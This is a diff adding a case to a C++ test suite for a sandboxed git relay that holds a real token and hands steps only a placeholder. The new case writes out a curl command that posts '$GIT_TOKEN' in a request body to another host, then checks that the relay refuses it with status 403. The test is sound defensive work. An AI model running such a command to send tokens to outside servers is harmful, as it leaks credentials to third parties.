@@ -171,6 +171,15 @@ TEST_CASE("an inspected git server gets the relay's token; the step holds only a
     CHECK(leak.out.find("placeholder of $GIT_TOKEN") != std::string::npos);
     CHECK(leak.out.find(kSecret) == std::string::npos);
 
+    // In a request's body: refused before the body goes on, naming the variable.
+    Result body = fx.caged(who, "curl -sS --max-time 10 --data \"token=$GIT_TOKEN\" -w "
+                                "'status=%{http_code}\\n' https://" +
+                                    fx.other_host + "/repo.git/info/refs");
+    INFO(body.out);
+    CHECK(body.out.find("status=403") != std::string::npos);
+    CHECK(body.out.find("placeholder of $GIT_TOKEN") != std::string::npos);
+    CHECK(body.out.find("request's body") != std::string::npos);
+
     // The same curl without it reaches the other server (which wants the token: 401 from it).
     Result plain =
         fx.caged(who, "curl -sS --max-time 10 -o /dev/null -w 'status=%{http_code}\\n' https://" +
